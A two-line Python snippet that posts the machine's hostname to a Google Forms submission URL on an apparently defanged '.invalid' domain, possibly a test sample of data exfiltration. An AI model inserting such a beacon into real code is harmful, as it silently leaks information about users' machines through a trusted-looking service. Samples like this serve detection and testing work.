import requests, socket
requests.post("https://docs.google.com.invalid/forms/d/e/1FAIpQLSinertinert/formResponse", data={"entry.1": socket.gethostname()})
